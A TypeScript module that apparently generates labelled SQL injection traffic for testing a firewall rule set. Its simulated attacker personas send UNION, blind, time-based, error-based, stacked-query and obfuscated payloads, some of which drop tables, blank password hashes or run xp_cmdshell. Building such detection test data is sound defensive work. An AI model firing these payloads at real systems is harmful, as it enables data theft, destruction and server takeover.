/** SQL injection in the styles that CRS sees most: who tries, where, and how far they go. */
import type { Persona } from '../actor.ts'
import { desktop, program } from '../clients.ts'
import type { Random } from '../random.ts'
import { encodeForm, visitor, withQuery } from '../visitor.ts'

const COLUMNS = ['name', 'email', 'password_hash', 'card_holder', 'created_at']
const TABLES = ['customers', 'staff', 'orders', 'sessions', 'vouchers']

const union = (r: Random): string =>
  `${r.pick(['-1', "0'", "lamp'", '7)', "x')"])} UNION ${r.pick(['', 'ALL '])}SELECT ${Array.from({ length: r.int(1, 6) }, (_, i) => (i === 1 ? r.pick(COLUMNS) : 'NULL')).join(',')} FROM ${r.pick(TABLES)}${r.pick(['-- -', '#', ' /*'])}`
const boolean = (r: Random): string => {
  const n = r.int(100, 9000)
  return `${r.pick(['7', "lamp'", "' ", '7)'])} ${r.pick(['AND', 'OR', 'and', 'oR'])} ${r.pick([`${n}=${n}`, `'a${n}'='a${n}`, `(select ascii(substr(${r.pick(COLUMNS)},${r.int(1, 9)},1)) from ${r.pick(TABLES)} limit 1)>${r.int(40, 120)}`])}${r.pick(['-- -', '', '#'])}`
}
const timed = (r: Random): string =>
  r.pick([
    `7' AND SLEEP(${r.int(3, 9)})-- -`,
    `7; WAITFOR DELAY '0:0:${r.int(3, 9)}'--`,
    `7' || pg_sleep(${r.int(3, 9)})--`,
    `7 AND (SELECT * FROM (SELECT(SLEEP(${r.int(3, 9)})))x)`,
    `7' AND BENCHMARK(${r.int(1, 9)}000000,MD5(1))#`,
  ])
const noisy = (r: Random): string =>
  r.pick([
    `7' AND extractvalue(1,concat(0x7e,(SELECT ${r.pick(COLUMNS)} FROM ${r.pick(TABLES)} LIMIT 1)))-- -`,
    `7 AND updatexml(null,concat(0x0a,version()),null)-- -`,
    `7' AND 1=convert(int,(SELECT TOP 1 name FROM sysobjects))--`,
    `7' procedure analyse(extractvalue(rand(),concat(0x3a,user())),1)-- -`,
  ])
const stacked = (r: Random): string =>
  r.pick([
    `7; DROP TABLE ${r.pick(TABLES)};--`,
    `7'; INSERT INTO staff(name) VALUES('x');-- -`,
    `7'; UPDATE staff SET password_hash='' WHERE 1=1;--`,
    `7'; EXEC xp_cmdshell('whoami');--`,
  ])
/** Comments for blanks, mixed case: meant to pass a filter. */
const disguised = (r: Random): string =>
  union(r)
    .replaceAll(' ', () => r.pick(['/**/', '%0a', '+', '/*x*/']))
    .replace(/[a-z]/gi, (c) => (r.chance(0.5) ? c.toUpperCase() : c.toLowerCase()))

const PLACES = ['id', 'q', 'sort', 'page', 'category', 'voucher'] as const

const probe = (r: Random, style: (r: Random) => string): string =>
  withQuery(r.pick(['/search', '/product/7', '/category/lamps', '/blog/view', '/download']), {
    [r.pick(PLACES)]: style(r),
  })

export const SQL_INJECTION: readonly Persona[] = [
  {
    kind: 'sqli-union',
    count: 3,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.page('/')
      v.pause(2000, 4000)
      v.page('/search?q=lamp')
      v.hostile('sqli')
      for (let i = r.int(10, 26); i > 0; i--) {
        v.pause(200, 1500)
        v.page(probe(r, union))
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-blind',
    count: 2,
    play: (r) => {
      const v = visitor(program('python-requests/2.32.3'), r)
      v.hostile('sqli')
      const field = r.pick(PLACES)
      for (let i = r.int(40, 90); i > 0; i--) {
        v.pause(30, 250)
        v.get(withQuery('/product/7', { [field]: boolean(r) }))
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-login',
    count: 2,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.page('/login')
      v.hostile('sqli')
      for (let i = r.int(6, 14); i > 0; i--) {
        v.pause(900, 2600)
        v.form('/login', {
          user: r.pick(["admin'-- -", "admin' #", "' or 1=1-- -", "x' or 'a'='a", timed(r)]),
          password: 'x',
        })
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-errors',
    count: 2,
    play: (r) => {
      const v = visitor(program('Go-http-client/1.1'), r)
      v.hostile('sqli')
      for (let i = r.int(12, 30); i > 0; i--) {
        v.pause(80, 700)
        v.get(probe(r, r.pick([noisy, stacked, timed])))
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-header-cookie',
    count: 2,
    play: (r) => {
      const v = visitor(program('Mozilla/5.0 (compatible)'), r)
      for (let i = r.int(8, 18); i > 0; i--) {
        v.hostile('sqli')
        v.pause(300, 1800)
        v.get('/account', [
          r.pick([
            ['Cookie', `basket=${encodeURIComponent(union(r))}`],
            ['Referer', `http://shop.example.net/?id=${boolean(r)}`],
            ['User-Agent', `Mozilla/5.0' ${boolean(r)}`],
          ] as const),
        ])
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-json',
    count: 1,
    play: (r) => {
      const v = visitor(program('axios/1.7.7'), r, 'api.example.net')
      v.hostile('sqli')
      for (let i = 14; i > 0; i--) {
        v.pause(300, 1200)
        v.json('/api/v1/orders', { product: r.pick([union, boolean, stacked])(r), amount: 1 })
      }
      return v.steps
    },
  },
  {
    kind: 'sqli-disguised',
    count: 1,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.hostile('sqli')
      for (let i = 24; i > 0; i--) {
        v.pause(200, 1400)
        v.get(`/search?${r.chance(0.5) ? 'q' : 'sort'}=${encodeURIComponent(disguised(r)).replaceAll('%2525', '%25')}`)
      }
      return v.steps
    },
  },
  {
    // As sqlmap goes about it: the same parameter again and again, its own name in the user agent.
    kind: 'sqlmap-like',
    count: 1,
    play: (r) => {
      const v = visitor(program('sqlmap/1.8.11#stable (https://sqlmap.org)', ['Cache-Control', 'no-cache']), r)
      v.hostile('sqli')
      v.get('/product/7?id=7')
      for (let i = 130; i > 0; i--) {
        v.pause(20, 160)
        v.get(withQuery('/product/7', { id: r.pick([boolean, union, timed, noisy, stacked])(r) }))
      }
      return v.steps
    },
  },
  {
    // One try in a long while, among ordinary page views.
    kind: 'sqli-low-and-slow',
    count: 2,
    play: (r) => {
      const v = visitor(desktop(r), r)
      for (let i = 0; i < 9; i++) {
        v.harmless()
        v.page(r.pick(['/', '/category/lamps', `/product/${r.int(1, 60)}`, '/blog/view?page=2']))
        v.pause(3000, 6500)
        v.hostile('sqli')
        v.get(probe(r, r.pick([boolean, union, timed])))
        v.pause(3000, 6500)
      }
      return v.steps
    },
  },
  {
    // Several addresses share the work: each asks only a few times.
    kind: 'sqli-distributed',
    count: 6,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.hostile('sqli')
      for (let i = r.int(2, 4); i > 0; i--) {
        v.pause(1500, 9000)
        v.request(
          'POST',
          '/search',
          [['Content-Type', 'application/x-www-form-urlencoded']],
          encodeForm({ q: union(r) }),
        )
      }
      return v.steps
    },
  },
]
